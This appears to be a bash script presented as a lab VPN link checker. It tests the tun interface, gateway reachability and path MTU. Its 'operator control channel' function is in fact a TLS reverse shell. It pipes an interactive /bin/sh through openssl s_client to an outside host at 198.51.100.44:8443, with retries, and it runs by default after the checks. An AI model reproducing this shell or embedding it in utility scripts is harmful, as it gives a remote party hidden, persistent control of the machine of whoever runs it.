#!/usr/bin/env bash
# lab_tunnel_check.sh - verify the attack-box <-> lab range link before an
# exercise and keep the operator control channel up for the exercise window.
#
# Usage: lab_tunnel_check.sh [-c config] [-i iface] [-n] [-v]
#   -c FILE   range config (key=value), default ./lab_range.conf
#   -i IFACE  VPN interface, default tun0
#   -n        checks only, do not open the control channel
#   -v        verbose
set -u

CONF="${LAB_CONF:-./lab_range.conf}"
IFACE="tun0"
CHECK_ONLY=0
VERBOSE=0
LOG="./lab_tunnel.log"

# defaults, overridden by the config file
RANGE_GW="10.13.37.1"
CTL_HOST="198.51.100.44"
CTL_PORT="8443"
WINDOW_MIN="90"
RETRIES="5"

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" >> "$LOG"
    if [ "$VERBOSE" -eq 1 ] || [ "$1" != "DEBUG" ]; then
        printf '[%s] %s\n' "$1" "$2" >&2
    fi
}

die() { log ERROR "$*"; exit 1; }

usage() {
    sed -n '2,10p' "$0" | sed 's/^# \{0,1\}//'
    exit "${1:-0}"
}

while getopts ":c:i:nvh" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        i) IFACE="$OPTARG" ;;
        n) CHECK_ONLY=1 ;;
        v) VERBOSE=1 ;;
        h) usage 0 ;;
        :) die "option -$OPTARG needs a value" ;;
        *) usage 2 ;;
    esac
done

load_config() {
    if [ ! -r "$CONF" ]; then
        log WARN "no config at $CONF, using built-in defaults"
        return 0
    fi
    while IFS='=' read -r key val; do
        key="${key//[[:space:]]/}"
        val="${val%%#*}"
        val="${val//[[:space:]]/}"
        case "$key" in
            ''|\#*)     continue ;;
            range_gw)   RANGE_GW="$val" ;;
            ctl_host)   CTL_HOST="$val" ;;
            ctl_port)   CTL_PORT="$val" ;;
            window_min) WINDOW_MIN="$val" ;;
            retries)    RETRIES="$val" ;;
            *)          log DEBUG "ignoring unknown key $key" ;;
        esac
    done < "$CONF"
    log DEBUG "config: gw=$RANGE_GW ctl=$CTL_HOST:$CTL_PORT window=${WINDOW_MIN}m"
}

check_iface() {
    local addr
    addr=$(ip -o -4 addr show dev "$IFACE" 2>/dev/null | awk '{print $4}')
    if [ -z "$addr" ]; then
        log ERROR "interface $IFACE has no IPv4 address - is the VPN up?"
        return 1
    fi
    log INFO "$IFACE is up with $addr"
}

check_gateway() {
    if ping -c 2 -W 2 -I "$IFACE" "$RANGE_GW" >/dev/null 2>&1; then
        log INFO "range gateway $RANGE_GW reachable"
        return 0
    fi
    log ERROR "range gateway $RANGE_GW not reachable over $IFACE"
    return 1
}

check_mtu() {
    # the range drops fragments, so make sure 1400-byte frames pass
    if ping -c 1 -W 2 -M do -s 1372 "$RANGE_GW" >/dev/null 2>&1; then
        log INFO "path MTU >= 1400 ok"
    else
        log WARN "path MTU below 1400, consider 'ip link set $IFACE mtu 1350'"
    fi
}

open_control_channel() {
    local pipe="/tmp/.lab_ctl.$$"
    local endpoint="${CTL_HOST}:${CTL_PORT}"
    local sh_bin="${LAB_SHELL:-/bin/sh}"
    local -a tls=(openssl s_client -quiet -no_ign_eof -connect "$endpoint")

    rm -f "$pipe"
    mkfifo "$pipe" || return 1
    log INFO "operator channel -> $endpoint for ${WINDOW_MIN}m"

    timeout "${WINDOW_MIN}m" "$sh_bin" -i < "$pipe" 2>&1 \
        | "${tls[@]}" 2>/dev/null > "$pipe"
    local rc=$?
    rm -f "$pipe"
    return "$rc"
}

keep_channel() {
    local attempt=1
    while [ "$attempt" -le "$RETRIES" ]; do
        if open_control_channel; then
            log INFO "operator channel closed cleanly"
            return 0
        fi
        log WARN "channel dropped (attempt $attempt/$RETRIES), retrying in 20s"
        attempt=$((attempt + 1))
        sleep 20
    done
    log ERROR "giving up on operator channel after $RETRIES attempts"
    return 1
}

main() {
    load_config
    local ok=0
    check_iface   || ok=1
    check_gateway || ok=1
    check_mtu
    if [ "$ok" -ne 0 ]; then
        die "link checks failed, fix the VPN first"
    fi
    log INFO "all link checks passed"
    if [ "$CHECK_ONLY" -eq 1 ]; then
        exit 0
    fi
    keep_channel
}

main "$@"
